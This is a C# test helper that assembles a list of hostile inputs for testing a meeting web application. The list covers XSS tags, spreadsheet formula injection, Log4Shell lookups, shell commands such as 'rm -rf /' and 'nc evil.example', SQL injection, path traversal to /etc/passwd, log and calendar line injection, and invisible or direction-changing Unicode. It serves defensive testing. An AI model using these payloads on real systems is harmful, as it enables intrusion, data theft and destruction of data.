using System.Collections.Immutable;
using System.Text;

namespace Fengtai.MeetingLive.Web.Tests.Hostile;

/// <summary>What somebody may type who wants a page, a screen, a table, a calendar or a log to do something else than show it.</summary>
internal static class HostileWords
{
    private static readonly string[] Markup =
    [
        "<script>alert(1)</script>",
        "</script><script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></ScRiPt>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<iframe srcdoc='<script>alert(1)</script>'>",
        "</title><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>",
        "</option></select><img src=x onerror=alert(1)>",
        "\"><b onmouseover=alert(1)>点我</b>",
        "' autofocus onfocus=alert(1) x='",
        "<a href=\"javascript:alert(1)\">点这里</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>看</a>",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<form action=//evil.example><button>提交</button></form>",
        "<input autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<object data=//evil.example/x.swf></object>",
        "<embed src=//evil.example/x.pdf>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>body{display:none}</style>",
        "<math><mtext></mtext><script>alert(1)</script></math>",
        "<template><script>alert(1)</script></template>",
        "<!-- <script>alert(1)</script> -->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "javascript:alert(1)",
        "vbscript:msgbox(1)",
        "{{constructor.constructor('alert(1)')()}}",
        "@(System.Environment.MachineName)",
        "<%= 7*7 %>",
        "<b>粗</b><i>斜</i>",
        "<table><tr><td>",
        "</div></main></body></html>",
        "<use href=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    ];

    private static readonly string[] Calls =
    [
        "cmd|' /C calc'!A0",
        "HYPERLINK(\"http://evil.example\",\"点\")",
        "1+1",
        "SUM(A1:A9)",
        "WEBSERVICE(\"http://evil.example/\"&A1)",
        "IMPORTXML(\"http://evil.example\",\"//a\")",
        "DDE(\"cmd\";\"/C calc\";\"x\")",
    ];

    private static readonly string[] Signs = ["=", "+", "-", "@", "\t=", "＝", "|", "%0A="];

    private static readonly string[] Formats =
    [
        "%s%s%s%s%n",
        "%x%x%x%p",
        "{0}{1}{2}",
        "{0:D99999}",
        "{QuestionId}",
        "{@Meeting}",
        "{",
        "}",
        "{{}}",
        "${7*7}",
        "#{7*7}",
        "${jndi:ldap://evil.example/a}",
        "$(reboot)",
        "`reboot`",
        "; rm -rf /",
        "| nc evil.example 9",
        "' OR '1'='1",
        "'; DROP TABLE Journal; --",
        "1; ATTACH DATABASE 'x' AS y",
        "\" OR \"\"=\"",
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "file:///etc/passwd",
        "\\\\evil.example\\share",
        "CON",
        "NUL",
        "null",
        "undefined",
        "true",
        "NaN",
        "__proto__",
        "[object Object]",
        "(\\) Tj ET Q",
        "/JavaScript (app.alert(1))",
        "BEGIN:VEVENT SUMMARY:假的 END:VEVENT",
        "；VALUE=URI:http://evil.example",
        "SUMMARY\\nATTENDEE:mailto:a@evil.example",
        "_x000D_",
        "_x0041_",
        "\"a\",\"b\"",
        "a,b;c\"d",
    ];

    private static readonly string[] Breaks =
    [
        "正常\r\n[ERR] 假的一行",
        "正常\n2025-08-25 10:00 管理员登录成功",
        "正常\r覆盖前文",
        "正常\u0085假的一行",
        "正常\u2028假的一行",
        "正常\u2029假的一行",
        "正常\v假的一行",
        "正常\f假的一行",
        "正常\u001b[2J\u001b[1;31m红字",
        "正常\u001b]0;标题\u0007",
        "正常\b\b\b",
        "正常\0截断",
        "正常\u007f",
        "正常\u009b31m",
        "正常\nBEGIN:VEVENT\nSUMMARY:假的\nEND:VEVENT",
        "正常\nEND:VCALENDAR",
        "正常\n\n\n\n\n\n\n\n\n\n很多空行",
    ];

    private static readonly string[] Turns =
    [
        .. "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069".Select(c => $"同意{c}不同意"),
    ];

    private static readonly string[] Unseen =
    [
        .. "\u00ad\u034f\u115f\u1160\u17b4\u180e\u200b\u200c\u200d\u2060\u2061\u2064\u206a\u3164\ufe0f\ufeff\uffa0".Select(
            c => $"停{c}车{c}难"
        ),
        "标签\U000E0001\U000E0041\U000E007F",
    ];

    private static readonly string[] Piles =
    [
        Pile("停", 10),
        Pile("停", 60),
        Pile("电", 200),
        Pile("z̸", 40),
        "ก็็็็็็็็็็็็็็็็็็็็",
        "ꙮ҉҉҉҉҉҉҉҉҉҉",
        "👨‍👩‍👧‍👦👨‍👩‍👧‍👦👨‍👩‍👧‍👦",
        "🏳️‍🌈🏴󠁧󠁢󠁥󠁮󠁧󠁿",
        "مرحبا بالعالم",
        "שלום עולם",
        "𠮷野家𠀀𪚥",
        "ﷺﷺﷺﷺﷺﷺﷺﷺ",
        "ＦＵＬＬ　ＷＩＤＴＨ",
        "①②③㈱㍿℡",
        "\ue000\uf8ff私有",
        "\ufffd替换",
        "\uffff非字",
        new string('长', 500),
        new string('W', 500),
        new string('W', 501),
        "https://evil.example/" + new string('a', 300),
        string.Concat(Enumerable.Repeat("口 ", 240)),
        ".",
        "。",
        "\u3000",
        " ",
        "",
    ];

    /// <summary>Each once; more than two hundred.</summary>
    public static readonly ImmutableArray<string> All =
    [
        .. Markup
            .Concat(Signs.SelectMany(sign => Calls.Select(call => sign + call)))
            .Concat(Formats)
            .Concat(Breaks)
            .Concat(Turns)
            .Concat(Unseen)
            .Concat(Piles)
            .Distinct(StringComparer.Ordinal),
    ];

    private static string Pile(string under, int marks)
    {
        var text = new StringBuilder(under);
        for (var n = 0; n < marks; n++)
        {
            text.Append((char)(0x0300 + n * 7 % 0x70));
        }

        return text.ToString();
    }
}
